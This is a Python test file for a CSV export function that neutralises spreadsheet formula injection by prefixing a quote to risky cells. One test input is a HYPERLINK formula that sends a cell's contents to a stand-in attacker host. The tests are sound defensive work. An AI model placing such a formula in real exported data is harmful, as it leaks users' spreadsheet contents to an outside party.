"""Tables as CSV: readable again, and safe in a spreadsheet."""

from __future__ import annotations

import contextlib
import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.cli.table import FORMULA, print_csv


def printed(*row: object) -> str:
    with contextlib.redirect_stdout(io.StringIO()) as out:
        print_csv([row])
    return out.getvalue()


def read(text: str) -> list[str]:
    (row,) = csv.reader(io.StringIO(text, newline=""))
    return row


@pytest.mark.parametrize(
    "cell",
    ["=1+1", '=HYPERLINK("https://evil.example/"&A1)', "+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\uff1d1", "="],
)
def test_a_formula_becomes_a_text(cell: str) -> None:
    assert read(printed("sayno", cell)) == ["sayno", f"'{cell}"]


def test_numbers_and_other_texts_stay_as_they_are() -> None:
    assert printed("a=b", "x-1", -1, 0, None, "", "'", 'say "no"') == 'a=b,x-1,-1,0,,,\',"say ""no"""\r\n'


@given(st.lists(st.text(st.characters(codec="utf-8", exclude_characters="\0")), min_size=2))
def test_no_cell_begins_like_a_formula_and_nothing_is_lost(cells: list[str]) -> None:
    row = read(printed(*cells))
    assert not any(cell.startswith(FORMULA) for cell in row)
    assert [cell.removeprefix("'") if cell != given else cell for cell, given in zip(row, cells, strict=True)] == cells
